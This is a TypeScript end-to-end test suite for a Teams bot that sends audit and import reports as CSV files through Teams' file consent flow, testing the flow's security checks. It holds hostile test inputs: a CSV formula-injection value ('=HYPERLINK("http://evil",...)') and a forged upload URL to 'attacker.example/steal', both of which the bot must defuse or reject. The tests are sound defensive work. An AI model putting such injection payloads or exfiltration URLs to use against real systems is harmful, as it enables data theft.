import assert from 'node:assert/strict';
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import { FILE_CONSENT_CARD } from '../../emulator/index';
import type { Conversation } from '../../emulator/teams-client';
import { importReportCsv } from '../../src/features/reports/report-csv';
import { auditToCsv } from '../../src/store/audit-csv';
import type { Harness } from '../support/harness';
import { lastReplyText, startHarness } from '../support/harness';
import { TENANT_B, auditEntry, importJob, importMessage, importTargets, minute } from '../store/fixtures';

/**
 * Reports as CSV files in the personal chat, through Teams' file consent flow, end to end over HTTP:
 * the command, the consent card, Accept or Decline (`fileConsent/invoke`), the upload to the
 * emulated OneDrive session, the file info card. Needs the reports feature wired in src/index.ts.
 */
describe('reports as CSV files in the personal chat (file consent)', function () {
  let h: Harness;
  before(async () => {
    h = await startHarness();
  });
  after(async () => h?.stop());
  beforeEach(() => h.reset());

  const tenant = () => h.emulator.info.tenantId.toLowerCase();
  const uploads = () => h.emulator.files.uploads();
  const offerIdOf = (chat: Conversation) => {
    const consent = chat.lastFileConsent();
    assert.ok(consent, `no file consent card; the bot said: ${lastReplyText(chat)}`);
    return { consent, offerId: (consent.acceptContext as { offerId: string }).offerId };
  };

  /** Posts a message as the bot would, straight to the emulated connector (a card the bot never sent). */
  async function botSends(conversationId: string, activity: Record<string, unknown>): Promise<string> {
    const res = await fetch(`${h.emulator.connectorUrl}v3/conversations/${encodeURIComponent(conversationId)}/activities`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify(activity),
    });
    assert.equal(res.status, 200);
    return ((await res.json()) as { id: string }).id;
  }

  it("an admin asks for the ledger since a date, accepts, and receives exactly the audit export's CSV, shown with a file info card", async () => {
    const store = h.bot.store;
    await store.appendLedger(
      auditEntry({ at: '2021-05-01T10:00:00.000Z', tenantId: tenant(), actor: { aadObjectId: null, name: '=HYPERLINK("http://evil","x")' } }),
    );
    await store.appendLedger(auditEntry({ at: '2019-12-31T23:59:59.000Z', tenantId: tenant() }));
    await store.appendLedger(auditEntry({ at: minute(1), tenantId: TENANT_B, conversationId: 'other-tenant-line' }));
    const alex = h.teams.as('alex').inPersonalChat();
    await alex.says('audit export since 2020-01-01');
    const { consent, offerId } = offerIdOf(alex);
    assert.match(consent.name, /^audit-ledger-\d{8}-\d{6}Z\.csv$/);
    assert.match(consent.description ?? '', /^Audit ledger of your organisation, from 2020-01-01 00:00 UTC .*up to .*: 1 entry\.$/);
    assert.deepEqual(consent.acceptContext, { offerId }, 'the card carries only the opaque id');
    assert.deepEqual(consent.declineContext, { offerId });
    assert.equal(uploads().length, 0, 'nothing is uploaded before Accept');

    const until = ((await store.getPending(offerId))?.payload.request as { until: string }).until;
    const expected = auditToCsv((await store.queryLedger({ tenantId: tenant(), since: '2020-01-01T00:00:00Z', limit: Infinity })).filter((e) => e.at < until));
    assert.equal(consent.sizeInBytes, Buffer.byteLength(expected), 'the card shows the size of the file');
    assert.match(expected, /'=HYPERLINK\(""http:\/\/evil"",""x""\)/, 'formula text is defused');
    assert.ok(!expected.includes('2019-12-31') && !expected.includes('other-tenant-line'));

    // A line written after the card (someone refused) is not in the file made on Accept.
    await h.teams.as('lynne').inPersonalChat().says('audit export');
    const accepted = await alex.acceptsFile(consent.activityId);
    assert.equal(accepted.status, 200);
    const [upload] = uploads();
    assert.equal(upload.bytes.toString('utf8'), expected);
    assert.equal(upload.headers.authorization, undefined, 'the upload URL is pre-authenticated: no token is sent');
    const info = alex.lastFileInfo();
    assert.deepEqual(
      [info?.name, info?.contentUrl, info?.uniqueId, info?.fileType],
      [accepted.upload.name, accepted.upload.contentUrl, accepted.upload.uniqueId, 'csv'],
    );
    assert.deepEqual(
      h.emulator.connector.deletions(alex.conversationId).map((d) => d.activityId),
      [consent.activityId],
      'the consent card is removed',
    );
    assert.ok(!h.logs.join('\n').includes(accepted.upload.uploadUrl), 'the upload URL is never logged');
  });

  it('declining uploads nothing and says so', async () => {
    const alex = h.teams.as('alex').inPersonalChat();
    await alex.says('audit export');
    const { consent } = offerIdOf(alex);
    const declined = await alex.declinesFile(consent.activityId);
    assert.equal(declined.status, 200);
    assert.match(lastReplyText(alex), /Nothing was sent/);
    assert.equal(uploads().length, 0);
    assert.equal(alex.fileInfos().length, 0);
  });

  it('refuses a non-admin: no consent card, no upload', async () => {
    const lynne = h.teams.as('lynne').inPersonalChat();
    await lynne.says('audit export since 2020-01-01');
    assert.match(lastReplyText(lynne), /Only Teams administrators can do this/);
    await lynne.says('import report 3f2a9c1e-0b4d-4e5f-8a9b-0c1d2e3f4a5b');
    assert.match(lastReplyText(lynne), /Only Teams administrators can do this/);
    assert.equal(lynne.fileConsents().length, 0);
    assert.equal(uploads().length, 0);
  });

  it('in a channel or a group chat, points to the personal chat and sends no consent card', async () => {
    for (const chat of [h.teams.as('alex').inChannel('My Team', 'General'), h.teams.as('alex').inGroupChat('19:group-launch@thread.v2')]) {
      await chat.says('audit export');
      assert.match(lastReplyText(chat), /only in our personal chat/);
      assert.equal(chat.fileConsents().length, 0);
    }
    assert.equal(uploads().length, 0);
  });

  it('a consent card the bot never made (a forged or unknown context) gets a message and no upload', async () => {
    const alex = h.teams.as('alex').inPersonalChat();
    for (const context of [{ offerId: 'AAAAAAAAAAAAAAAAAAAAAA' }, { report: 'audit', since: null, until: '2099-01-01T00:00:00.000Z' }, 'x']) {
      const cardId = await botSends(alex.conversationId, {
        type: 'message',
        attachments: [
          {
            contentType: FILE_CONSENT_CARD,
            name: 'audit.csv',
            content: { description: 'x', sizeInBytes: 10, acceptContext: context, declineContext: context },
          },
        ],
      });
      const accepted = await alex.acceptsFile(cardId);
      assert.equal(accepted.status, 200);
      assert.match(lastReplyText(alex), /unknown or no longer valid/);
    }
    assert.equal(uploads().length, 0);
    assert.equal(alex.fileInfos().length, 0);
  });

  it('an Accept that names an upload address off the hosts where Teams keeps files uploads nothing there', async () => {
    const received: string[] = [];
    const trap = http.createServer((req, res) => {
      received.push(`${req.method} ${req.url}`);
      res.writeHead(201).end();
    });
    await new Promise<void>((resolve) => trap.listen(0, '127.0.0.1', () => resolve()));
    try {
      const alex = h.teams.as('alex').inPersonalChat();
      await alex.says('audit export');
      const { consent } = offerIdOf(alex);
      const forged = await alex.acceptsFile(consent.activityId, { uploadUrl: `https://attacker.example:${(trap.address() as AddressInfo).port}/steal` });
      assert.equal(forged.status, 200);
      assert.match(lastReplyText(alex), /not one where Teams keeps files .*nothing was sent/);
      assert.deepEqual(received, []);
      assert.equal(uploads().length, 0);
      assert.equal(alex.fileInfos().length, 0);
    } finally {
      await new Promise<void>((resolve) => trap.close(() => resolve()));
    }
  });

  it('an upload the OneDrive session refuses gets a message saying what to do, no file card, and a later Accept works', async () => {
    const alex = h.teams.as('alex').inPersonalChat();
    await alex.says('audit export');
    const { consent } = offerIdOf(alex);
    h.emulator.faults.inject({ path: '/_files/upload/', kind: '503' });
    const failed = await alex.acceptsFile(consent.activityId);
    assert.equal(failed.status, 200);
    assert.match(lastReplyText(alex), /could not be saved to your OneDrive/);
    assert.equal(uploads().length, 0);
    assert.equal(alex.fileInfos().length, 0);
    assert.equal(h.emulator.connector.deletions(alex.conversationId).length, 0, 'the card stays for another try');
    const logs = h.logs.join('\n');
    assert.match(logs, /report file upload failed/);
    assert.ok(!logs.includes(failed.upload.uploadUrl) && !logs.includes(failed.upload.uploadUrl.split('/').at(-1)!), 'the upload URL is never logged');

    const retried = await alex.acceptsFile(consent.activityId);
    assert.equal(retried.status, 200);
    assert.equal(uploads().length, 1);
    assert.equal(alex.fileInfos().length, 1);
  });

  it("import report: an unknown job is named as not found; a job of the admin's tenant comes as its message rows", async () => {
    const alex = h.teams.as('alex').inPersonalChat();
    await alex.says('import report 3f2a9c1e-0b4d-4e5f-8a9b-0c1d2e3f4a5b');
    assert.match(lastReplyText(alex), /There is no import job "3f2a9c1e-0b4d-4e5f-8a9b-0c1d2e3f4a5b" in your organisation\. Type import status/);
    assert.equal(alex.fileConsents().length, 0);

    const store = h.bot.store;
    const job = importJob({ tenantId: tenant(), jobKey: `report-test-${Date.now()}` });
    const targets = importTargets(job, 2);
    await store.createImportJob(job, targets);
    await store.insertImportMessage(importMessage(targets[0], 0, { state: 'imported', graphId: '1700000000000', requestId: 'req-1' }));
    await store.insertImportMessage(importMessage(targets[0], 1, { state: 'skipped', createdDateTime: null, detail: '=a channel join message' }));
    await store.insertImportMessage(importMessage(targets[1], 0, { state: 'failed', requestId: 'req-3', detail: '400 BadRequest' }));
    const foreign = importJob({ tenantId: TENANT_B, jobKey: `report-test-foreign-${Date.now()}` });
    await store.createImportJob(foreign, importTargets(foreign, 1));

    await alex.says(`import report ${foreign.id}`);
    assert.match(lastReplyText(alex), /There is no import job .* in your organisation/);
    await alex.says(`import report ${job.id}`);
    const { consent } = offerIdOf(alex);
    const expected = (await importReportCsv(store, job.id)).csv;
    assert.equal(consent.sizeInBytes, Buffer.byteLength(expected));
    await alex.acceptsFile(consent.activityId);
    const [upload] = uploads();
    assert.equal(upload.bytes.toString('utf8'), expected);
    const lines = expected.split('\r\n');
    assert.equal(lines.length, 5);
    assert.match(lines[2], /,skipped,,,,'=a channel join message$/);
    assert.equal(alex.lastFileInfo()?.name, consent.name);
  });
});
